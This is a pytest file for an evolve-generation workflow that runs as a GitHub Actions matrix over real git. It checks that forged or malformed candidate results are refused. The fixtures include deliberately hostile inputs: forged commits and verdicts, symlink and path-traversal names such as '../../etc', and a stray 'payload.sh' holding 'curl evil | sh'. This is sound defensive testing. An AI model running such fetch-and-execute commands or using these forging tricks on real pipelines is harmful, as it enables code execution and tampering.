"""An evolve generation judged by a matrix of jobs, on real git: a bare repository as origin, a
fresh clone and a fresh store for every job (as separate runners have), the loopback stand-in as
GitHub, a scripted worker whose candidates' speeds are known, a judge of real subprocesses.

Planner -> one job per candidate -> admitting job must admit what a local run admits; a result
brought twice adds nothing twice; a candidate without a result waits for the next planner; a
malformed or hostile result is refused and stored as a failed candidate, never admitted.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from collections import Counter
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest

from freemad.config import FreemadConfig
from freemad.core.evolve_state import Status
from freemad.errors import UsageError
from freemad.github.evolve_matrix import (
    Holder,
    Planned,
    admit_job,
    candidate_job,
    candidate_ref,
    plan_job,
)
from freemad.github.evolve_pr import PullRequestInfo
from freemad.github.matrix_results import BUNDLE, RESULT
from freemad.github.pygithub_forge import PyGithubForge
from freemad.github.standin import StandIn
from freemad.store import SqliteStore
from freemad.wiring import ADAPTERS
from tests.evolve.population import ScriptedPopulation, outcomes
from tests.evolve.runs import evolve_config, git, harness, make_repo

REPO = "octo/widgets"
GOAL = "make add cheaper"
POPULATION = {"size": 4, "parallel": 2}
SUPERVISOR = {"stall_window": 5, "loop_threshold": 3}


@dataclass
class Matrix:
    """Origin, GitHub's stand-in, and a job counter: every job gets a clone and a store of its own."""

    root: Path
    bare: Path
    head: str
    api: StandIn
    forge: PyGithubForge
    config: FreemadConfig
    jobs: int = 0
    stores: list[SqliteStore] = field(default_factory=list)

    def clone(self) -> Path:
        """A job's workspace as actions/checkout with fetch-depth 0 leaves it: every branch as a
        remote-tracking ref (the state branch and the run's branch included), every tag."""
        self.jobs += 1
        where = self.root / f"job{self.jobs}"
        subprocess.run(["git", "clone", "-q", str(self.bare), str(where)], check=True)
        return where

    def store(self) -> SqliteStore:
        store = SqliteStore(self.root / f"store{self.jobs}" / "runs.db")
        self.stores.append(store)
        return store

    def pr(self) -> PullRequestInfo:
        return PullRequestInfo(REPO, 7, "feature", self.head, "main", REPO)

    def holder(self) -> Holder:
        workspace = self.clone()
        return Holder(
            self.config,
            self.store(),
            self.forge,
            self.pr(),
            workspace,
            ADAPTERS,
            ports={"worker": ScriptedPopulation("worker")},
            worktrees_dir=self.root / f"worktrees{self.jobs}",
        )

    def plan(self, run_id: str | None = None) -> Planned:
        if run_id is None:
            return plan_job(self.holder(), goal=GOAL)
        return plan_job(self.holder(), run_id=run_id)

    def candidate(self, run_id: str, k: int, out: Path) -> Path | None:
        """Candidate k's job: its own clone, store and worker (a runner of its own)."""
        workspace = self.clone()
        return candidate_job(
            self.config,
            self.store(),
            workspace,
            run_id,
            k,
            out,
            adapters=ADAPTERS,
            ports={"worker": ScriptedPopulation("worker")},
            worktrees_dir=self.root / f"worktrees{self.jobs}",
        )

    def admit(self, run_id: str, results: Path) -> Any:
        return admit_job(self.holder(), run_id, results)

    def events(self, run_id: str) -> list[tuple[str, dict[str, Any]]]:
        """The run's events as the state branch holds them (a fresh job's view)."""
        holder = self.holder()
        branch = holder.branch()
        branch.pull()
        branch.load(holder.store, [run_id])
        return [(e.kind, e.data) for e in holder.store.events(run_id)]

    def ref(self, name: str) -> str:
        return git(self.bare, "rev-parse", "--verify", "--quiet", name)


def config_with(**more: Any) -> FreemadConfig:
    return evolve_config(population=POPULATION, supervisor=SUPERVISOR, **more)


@pytest.fixture
def world(tmp_path: Path) -> Iterator[Matrix]:
    seed = make_repo(tmp_path / "seed")
    bare = tmp_path / "origin.git"
    git(tmp_path, "init", "-q", "--bare", "-b", "main", str(bare))
    git(seed, "checkout", "-q", "-b", "feature")
    (seed / "NOTES.md").write_text("the pull request's own change\n")
    git(seed, "add", "NOTES.md")
    git(seed, "-c", "user.name=t", "-c", "user.email=t@t", "commit", "-qm", "notes")
    git(seed, "push", "-q", str(bare), "main", "feature")
    head = git(seed, "rev-parse", "feature")
    with (
        StandIn(permissions={"alice": "admin"}) as api,
        PyGithubForge("ghs_token", base_url=api.base_url, throttle=False) as forge,
    ):
        api.add_pull(REPO, 7, head_ref="feature", head_sha=head, base_ref="main", head_repo=REPO)
        matrix = Matrix(tmp_path, bare, head, api, forge, config_with(stop={"max_iterations": 3}))
        yield matrix
        for store in matrix.stores:
            store.close()


def measured(events: list[tuple[str, dict[str, Any]]]) -> Counter[tuple[int, int]]:
    return Counter((d["iteration"], d["candidate"]) for k, d in events if k == "candidate_measured")


def keys(events: list[tuple[str, dict[str, Any]]], kind: str) -> set[str]:
    return {key for k, data in events if k == kind for key in data}


def judged(events: list[tuple[str, dict[str, Any]]]) -> list[dict[str, Any]]:
    return [d for k, d in events if k == "candidate_judged"]


def generation(m: Matrix, run_id: str, planned: Planned, out: Path) -> None:
    """The matrix's candidate jobs, each on a runner of its own."""
    for k in planned.plan.todo:
        assert m.candidate(run_id, k, out) is not None


def first_generation(m: Matrix, out: Path) -> str:
    """A new run, planned, and every candidate of its first generation judged into `out`."""
    planned = m.plan()
    generation(m, planned.plan.run_id, planned, out)
    return planned.plan.run_id


def read(folder: Path) -> dict[str, Any]:
    data: dict[str, Any] = json.loads((folder / RESULT).read_text())
    return data


def write(folder: Path, data: dict[str, Any]) -> None:
    (folder / RESULT).write_text(json.dumps(data))


# --- the whole flow, against a local run ----------------------------------------------------------


def test_the_matrix_admits_what_a_local_run_admits(world: Matrix, tmp_path: Path) -> None:
    m = world
    planned = m.plan()
    run_id = planned.plan.run_id
    assert planned.outputs()["matrix"] == json.dumps({"candidate": [0, 1, 2, 3]})
    assert planned.outputs()["parallel"] == "2" and planned.outputs()["generation"] == "1"
    assert int(planned.outputs()["timeout-minutes"]) == (900 + 300 + 300 + 600) // 60
    # The planner judged the baseline and started generation 1 on the state branch.
    kinds = [k for k, _ in m.events(run_id)]
    assert kinds.count("generation_started") == 1 and kinds[-1] == "generation_started"

    for number in (1, 2, 3):
        out = tmp_path / f"artifacts{number}"
        generation(m, run_id, planned, out)
        assert sorted(p.name for p in out.iterdir()) == [
            f"candidate-{number}-{k}" for k in range(4)
        ]
        report = m.admit(run_id, out)
        assert report.admitted.stored == (0, 1, 2, 3) and report.admitted.refused == ()
        planned = m.plan(run_id)
    assert planned.plan.iteration is None and planned.plan.todo == ()
    assert planned.outputs()["matrix"] == json.dumps({"candidate": []})
    assert planned.plan.status == "stopped"

    # The same worker and judge, one machine: the same decisions, the same versions.
    make_repo(tmp_path / "local" / "repo")
    local = harness(tmp_path / "local", [ScriptedPopulation("worker")], m.config)
    alone = local.runner.start(GOAL)
    events = m.events(run_id)
    local_judged = local.events(alone.run_id, "candidate_judged")
    assert (
        outcomes(judged(events))
        == outcomes(local_judged)
        == {
            1: [(0, "beaten"), (1, "admitted"), (2, "failed"), (3, "beaten")],
            2: [(0, "admitted"), (1, "beaten"), (2, "beaten"), (3, "rejected")],
            3: [(0, "rejected"), (1, "rejected"), (2, "failed"), (3, "failed")],
        }
    )
    assert [d.get("candidate") for d in judged(events)] == [None, 1, 0, None]
    # The events hold what a local run's hold, down to their keys.
    here = [(e.kind, e.data) for e in local.store.events(alone.run_id)]
    for kind in ("candidate_proposed", "candidate_measured", "candidate_judged"):
        assert keys(events, kind) == keys(here, kind), kind
    assert measured(events) == {(g, k): 1 for g in (1, 2, 3) for k in range(4)}
    versions = [
        (d["version"], d["components"]["runtime_ms"]) for k, d in events if k == "version_admitted"
    ]
    assert versions == [(0, 50.0), (1, 30.0), (2, 25.0)]
    assert [v.components["runtime_ms"] for v in alone.versions][1:] == [30.0, 25.0]
    # The lineage is on origin, v2 the branch's tip, a child of v1, a child of the PR's head.
    v1, v2 = (m.ref(f"refs/tags/evolve/{run_id}/v{n}") for n in (1, 2))
    assert m.ref(f"refs/heads/freemad/evolve/{run_id}") == v2
    assert git(m.bare, "rev-parse", f"{v2}^") == v1 and git(m.bare, "rev-parse", f"{v1}^") == m.head
    assert "COST = 25" in git(m.bare, "show", f"{v2}:calc.py")
    # One draft pull request on the stand-in, its description the trajectory.
    [draft] = [p for (repo, n), p in m.api.pulls.items() if n != 7]
    assert draft["draft"] and draft["head"]["ref"] == f"freemad/evolve/{run_id}"
    assert (
        "admitted v2" in draft["body"] and "**Status:** stopped (max_iterations)" in draft["body"]
    )


# --- a result twice, a job twice -------------------------------------------------------------------


def test_a_result_brought_twice_or_a_job_run_twice_adds_nothing_twice(
    world: Matrix, tmp_path: Path
) -> None:
    m = world
    first, again = tmp_path / "first", tmp_path / "again"
    run_id = first_generation(m, first)
    assert m.candidate(run_id, 1, again) is not None  # candidate 1's job re-run
    # The duplicate comes in first: one of the two is stored, never both.
    report = m.admit(run_id, again)
    assert report.admitted.stored == (1,) and report.admitted.missing == (0, 2, 3)
    report = m.admit(run_id, first)
    assert report.admitted.stored == (0, 2, 3)
    assert report.admitted.ignored == ((1, "candidate 1 of generation 1 is stored already"),)
    # The whole admitting job again (GitHub's "re-run all jobs"): the generation is decided.
    again_report = m.admit(run_id, first)
    assert again_report.admitted.stored == () and again_report.admitted.refused == ()
    events = m.events(run_id)
    assert measured(events) == {(1, k): 1 for k in range(4)}
    assert [d["iteration"] for d in judged(events)] == [0, 1]
    assert [k for k, _ in events].count("version_admitted") == 2
    # A candidate job run once more after the decision has nothing to judge, and says so.
    with pytest.raises(UsageError, match="has no generation in flight"):
        m.candidate(run_id, 2, tmp_path / "late")


# --- a candidate without a result ----------------------------------------------------------------


def test_a_candidate_without_a_result_is_planned_again_and_the_generation_decided_later(
    world: Matrix, tmp_path: Path
) -> None:
    m = world
    planned = m.plan()
    run_id = planned.plan.run_id
    out = tmp_path / "attempt1"
    for k in (0, 1, 2):  # candidate 3's job was cancelled: no artifact
        m.candidate(run_id, k, out)
    report = m.admit(run_id, out)
    assert report.admitted.missing == (3,)
    assert report.admitted.state.status is Status.RUNNING
    assert any("waits for candidate(s) 3" in line for line in report.lines())
    events = m.events(run_id)
    assert [d["iteration"] for d in judged(events)] == [0]  # undecided
    # The measured candidates' commits wait on origin under hidden refs (the next job has none
    # of this workflow run's artifacts); candidate 2 failed the judge and has no commit.
    for k in (0, 1):
        assert m.ref(candidate_ref(run_id, 1, k))
    assert subprocess.run(
        ["git", "rev-parse", "--verify", "--quiet", candidate_ref(run_id, 1, 2)],
        cwd=m.bare,
        capture_output=True,
        check=False,
    ).returncode

    # Candidate 0's job run again now: it is measured, so nothing is judged or written.
    assert m.candidate(run_id, 0, tmp_path / "rerun") is None
    assert not (tmp_path / "rerun").exists()
    with pytest.raises(UsageError, match=r"^candidate 4 is not in generation 1 of run"):
        m.candidate(run_id, 4, tmp_path / "rerun")

    # The next workflow run: its planner plans only candidate 3, starting nothing new.
    planned = m.plan(run_id)
    assert planned.plan.iteration == 1 and planned.plan.todo == (3,)
    out = tmp_path / "attempt2"
    generation(m, run_id, planned, out)
    report = m.admit(run_id, out)
    assert report.admitted.stored == (3,) and report.admitted.missing == ()
    events = m.events(run_id)
    assert [k for k, _ in events].count("generation_started") == 1
    assert measured(events) == {(1, k): 1 for k in range(4)}
    [_, first] = judged(events)
    assert first["candidate"] == 1 and first["verdict"]["admitted"]  # as a local run decides
    assert m.ref(f"refs/tags/evolve/{run_id}/v1") == first["commit"]
    assert git(m.bare, "for-each-ref", f"refs/freemad/evolve/{run_id}/") == ""  # none waits


# --- hostile results -----------------------------------------------------------------------------


def forge_commit(workspace: Path, parent: str, files: dict[str, str]) -> tuple[str, str]:
    """A commit on `parent` with `files` changed, made as a hostile job would: (commit, tree)."""
    work = workspace / "forged"
    git(workspace, "worktree", "add", "-q", "--detach", str(work), parent)
    for path, text in files.items():
        (work / path).write_text(text)
    git(work, "add", "-A")
    env = ["-c", "user.name=x", "-c", "user.email=x@x"]
    git(work, *env, "commit", "-q", "-m", "forged")
    return git(work, "rev-parse", "HEAD"), git(work, "rev-parse", "HEAD^{tree}")


def on(repo: Path, commit: str) -> bool:
    """Whether `repo` has the object `commit`."""
    found = subprocess.run(["git", "cat-file", "-e", commit], cwd=repo, check=False)
    return found.returncode == 0


def swap_commit(folder: Path, attacker: Path, commit: str, tree: str, parent: str) -> None:
    """Make a result name `commit` (and its tree), its bundle that commit on `parent`."""
    data = read(folder)
    data["measured"].update(commit=commit, tree=tree)
    write(folder, data)
    (folder / BUNDLE).unlink()
    git(attacker, "update-ref", "refs/x/forged", commit)
    git(attacker, "bundle", "create", "-q", str(folder / BUNDLE), "refs/x/forged", f"^{parent}")


def test_hostile_results_are_refused_one_line_each_and_never_admitted(
    world: Matrix, tmp_path: Path
) -> None:
    m = world
    honest, out = tmp_path / "honest", tmp_path / "hostile"
    run_id = first_generation(m, honest)
    out.mkdir()
    incumbent = read(honest / "candidate-1-0")["parent"]
    attacker = m.clone()

    # Candidate 0: its result claims another generation.
    zero = out / "candidate-1-0"
    shutil.copytree(honest / "candidate-1-0", zero)
    data = read(zero)
    data["generation"] = 2
    write(zero, data)
    # Candidate 1, the real winner: its bundle's commit is not a child of the incumbent (it sits
    # on main, under the PR's head), though its tree and verdict are consistent.
    one = out / "candidate-1-1"
    shutil.copytree(honest / "candidate-1-1", one)
    main = git(attacker, "rev-parse", "origin/main")
    commit, tree = forge_commit(
        attacker, main, {"calc.py": "COST = 1\n\n\ndef add(a, b):\n    return a + b\n"}
    )
    swap_commit(one, attacker, commit, tree, main)
    # Candidate 2: an oversize result.
    two = out / "candidate-1-2"
    two.mkdir()
    (two / RESULT).write_bytes(b" " * (8 * 2**20 + 1))
    # Candidate 3: a link out of the folder instead of its result.
    three = out / "candidate-1-3"
    three.mkdir()
    (three / RESULT).symlink_to(honest / "candidate-1-3" / RESULT)
    # Names that are no candidate's, a folder that is a link, a file walking out of its folder.
    (out / "candidate-1-0..").mkdir()
    (out / "..candidate-1-1").mkdir()
    (out / "candidate-2-0").symlink_to(honest / "candidate-1-0")

    report = m.admit(run_id, out)

    refused = dict(report.admitted.refused)
    assert set(refused) == {0, 1, 2, 3}
    assert refused[0] == "its generation is 2, not 1"
    assert refused[1].startswith(f"its commit {commit[:12]} is not a child of the incumbent")
    assert refused[2].startswith(f"{RESULT} has {8 * 2**20 + 1} bytes, over the limit")
    assert refused[3] == f"{RESULT} is not a regular file"
    assert all("\n" not in why for why in refused.values())
    assert dict(report.ignored) == {
        "..candidate-1-1": "not a candidate result's name (candidate-<g>-<k>)",
        "candidate-1-0..": "not a candidate result's name (candidate-<g>-<k>)",
        "candidate-2-0": "for generation 2, not 1",
    }
    # Stored as failed candidates: the generation is decided, nothing admitted, the forged
    # commit nowhere on origin; the honest results, brought later, change nothing.
    events = m.events(run_id)
    [_, decided] = judged(events)
    assert decided["candidate"] is None and not decided["verdict"]["admitted"]
    assert [c["outcome"] for c in decided["generation"]["candidates"]] == ["failed"] * 4
    assert "its result was refused" in decided["verdict"]["reason"]
    assert git(m.bare, "for-each-ref", f"refs/tags/evolve/{run_id}/").count("\n") == 0  # v0 only
    assert not on(m.bare, commit)
    late = m.admit(run_id, honest)
    assert late.admitted.stored == () and measured(m.events(run_id)) == {
        (1, k): 1 for k in range(4)
    }
    assert incumbent == m.head


def test_forged_verdicts_protected_paths_bad_bundles_and_stray_files_are_refused(
    world: Matrix, tmp_path: Path
) -> None:
    m = world
    honest, out = tmp_path / "honest", tmp_path / "hostile"
    run_id = first_generation(m, honest)
    shutil.copytree(honest, out)
    incumbent = read(out / "candidate-1-0")["parent"]
    attacker = m.clone()

    # Candidate 0 (measured 45) claims 1 ms and keeps its verdict: not the judge's verdict.
    data = read(out / "candidate-1-0")
    data["measured"]["measurement"]["components"]["runtime_ms"] = 1.0
    write(out / "candidate-1-0", data)
    # Candidate 1, the winner: its commit also rewrites the judge's protected test, its tree
    # and result consistent with that commit.
    one = out / "candidate-1-1"
    commit, tree = forge_commit(
        attacker,
        incumbent,
        {
            "calc.py": "COST = 30\n\n\ndef add(a, b):\n    return a + b\n",
            "tests/check.py": "print('all good')\n",
        },
    )
    swap_commit(one, attacker, commit, tree, incumbent)
    # Candidate 2 (fails its gate) claims to be admitted with the judge's words for another.
    data = read(out / "candidate-1-2")
    data["measured"]["verdict"] = read(honest / "candidate-1-1")["measured"]["verdict"]
    write(out / "candidate-1-2", data)
    # Candidate 3: its bundle is no bundle; and a stray file beside it.
    (out / "candidate-1-3" / BUNDLE).write_bytes(b"not a bundle\n")
    (out / "candidate-1-3" / "payload.sh").write_text("curl evil | sh\n")

    report = m.admit(run_id, out)

    refused = dict(report.admitted.refused)
    assert refused[0].startswith("its verdict is not the judge's on its measurement")
    assert refused[1] == "its commit changes the protected path tests/check.py"
    assert refused[2].startswith("its verdict is not the judge's on its measurement")
    assert refused[3] == "it holds 'payload.sh', neither result.json nor candidate.bundle"
    [_, decided] = judged(m.events(run_id))
    assert decided["candidate"] is None and not decided["verdict"]["admitted"]
    assert not on(m.bare, commit)
    # A bundle that is no bundle, without a stray file beside it: refused for the bundle.
    fresh = first_generation(m, tmp_path / "second")  # a second run, its generation open
    second = tmp_path / "second" / "candidate-1-3"
    (second / BUNDLE).write_bytes(b"not a bundle\n")
    report = m.admit(fresh, tmp_path / "second")
    assert dict(report.admitted.refused) == {3: f"{BUNDLE} is not a bundle of one commit"}
    assert report.admitted.stored == (0, 1, 2)
    assert [v.version for v in report.admitted.state.versions] == [0, 1]  # candidate 1 still wins


def test_a_proposal_that_lies_about_its_cost_or_shape_is_refused_and_strange_keys_dropped(
    world: Matrix, tmp_path: Path
) -> None:
    m = world
    out = tmp_path / "results"
    run_id = first_generation(m, out)
    edits: dict[int, dict[str, Any]] = {
        0: {"cost_usd": -1e9},  # would lower a run's spending against its cost limit
        1: {"agent": {"id": "worker"}},
        3: {"candidate": 2},
    }
    for k, change in edits.items():
        data = read(out / f"candidate-1-{k}")
        data["proposal"].update(change)
        write(out / f"candidate-1-{k}", data)
    data = read(out / "candidate-1-2")
    data["proposal"]["injected"] = "x" * 100
    data["measured"].update(version=99, diff_artifact="someone-elses-artifact")
    write(out / "candidate-1-2", data)

    report = m.admit(run_id, out)

    assert dict(report.admitted.refused) == {
        0: "its proposal's cost_usd is not a number of dollars",
        1: "its proposal's agent is not text",
        3: "its proposal is for another generation or candidate",
    }
    assert report.admitted.stored == (2,)
    events = m.events(run_id)
    [proposed] = [d for k, d in events if k == "candidate_proposed"]
    [stored] = [d for k, d in events if k == "candidate_measured" and d["candidate"] == 2]
    assert proposed["candidate"] == 2 and "injected" not in proposed
    assert "version" not in stored
    assert stored["diff_artifact"] != "someone-elses-artifact"  # the diff it brought, stored here


def test_the_winner_is_confirmed_on_the_admitting_runner(world: Matrix, tmp_path: Path) -> None:
    """With judge.confirm_runs the admitting job re-measures the winner itself: a result whose
    consistent claim its commit does not bear out is not admitted."""
    m = world
    m.config = config_with(stop={"max_iterations": 1}, judge={"confirm_runs": 1})
    out = tmp_path / "results"
    run_id = first_generation(m, out)
    attacker = m.clone()
    incumbent = read(out / "candidate-1-3")["parent"]
    # Candidate 3 claims 10 ms, with the very verdict the judge gives 10 ms; its commit costs 70.
    three = out / "candidate-1-3"
    commit, tree = forge_commit(
        attacker, incumbent, {"calc.py": "COST = 70\n\n\ndef add(a, b):\n    return a + b\n"}
    )
    swap_commit(three, attacker, commit, tree, incumbent)
    data = read(three)
    honest_claim = read(out / "candidate-1-1")["measured"]  # 30 ms, admitted over 50
    claim = json.loads(json.dumps(honest_claim).replace("30.0", "10.0").replace(": 30,", ": 10,"))
    data["measured"].update(measurement=claim["measurement"], verdict=claim["verdict"])
    write(three, data)

    report = m.admit(run_id, out)

    assert report.admitted.refused == ()  # well-formed and consistent: only re-measuring tells
    events = m.events(run_id)
    [confirmed] = [d for k, d in events if k == "candidate_confirmed"]
    assert confirmed["candidate"] == 3 and not confirmed["verdict"]["admitted"]
    assert confirmed["runs"][0]["components"]["runtime_ms"] == 70.0
    assert outcomes(judged(events))[1][3] == (3, "unconfirmed")
    assert [k for k, _ in events].count("version_admitted") == 1  # v0 alone


# --- one line for what cannot be done ------------------------------------------------------------


def test_an_unknown_or_malformed_run_id_is_one_line(world: Matrix, tmp_path: Path) -> None:
    with pytest.raises(UsageError, match=r"^no run 0123456789abcdef on origin/freemad-state"):
        world.plan("0123456789abcdef")
    with pytest.raises(UsageError, match=r"^'\.\./\.\./etc' is not a FREE-MAD run id$"):
        world.candidate("../../etc", 0, tmp_path / "out")
    with pytest.raises(UsageError, match="give a goal to start a run, or the id of a run"):
        plan_job(world.holder())
    # A run carried on for another pull request than its own.
    run_id = world.plan().plan.run_id
    world.api.add_pull(
        REPO, 8, head_ref="other", head_sha=world.head, base_ref="main", head_repo=REPO
    )
    holder = world.holder()
    holder.pr = PullRequestInfo(REPO, 8, "other", world.head, "main", REPO)
    with pytest.raises(UsageError, match=rf"^run {run_id} evolves #7 of {REPO}, not #8"):
        plan_job(holder, run_id=run_id)
    assert not (tmp_path / "out").exists()


@pytest.mark.parametrize(
    ("args", "env", "message"),
    [
        (
            ["candidate", "--config", "", "--run-id", "r", "--candidate", "0"],
            {},
            "--config is empty",
        ),
        (
            ["plan", "--config", "f.yaml", "--pull-request", "7", "--goal", "g"],
            {"GITHUB_REPOSITORY": REPO},
            "GITHUB_TOKEN is not set",
        ),
        (
            ["admit", "--config", "f.yaml", "--pull-request", "7", "--run-id", "r"],
            {"GITHUB_TOKEN": "t"},
            "GITHUB_REPOSITORY is not set",
        ),
        (
            ["candidate", "--config", "missing.yaml", "--run-id", "r", "--candidate", "0"],
            {},
            "missing.yaml",
        ),
    ],
)
def test_the_commands_refuse_in_one_line(
    tmp_path: Path, args: list[str], env: dict[str, str], message: str
) -> None:
    git(tmp_path, "init", "-q")
    clean = {k: v for k, v in os.environ.items() if not k.startswith("GITHUB_")}
    done = subprocess.run(
        [str(Path(sys.executable).parent / "freemad"), "github", "generation", *args],
        cwd=tmp_path,
        env={**clean, **env},
        capture_output=True,
        text=True,
        check=False,
    )
    assert done.returncode != 0 and done.stdout == ""
    [line] = done.stderr.splitlines()
    assert line.startswith("freemad: error: ") and message in line
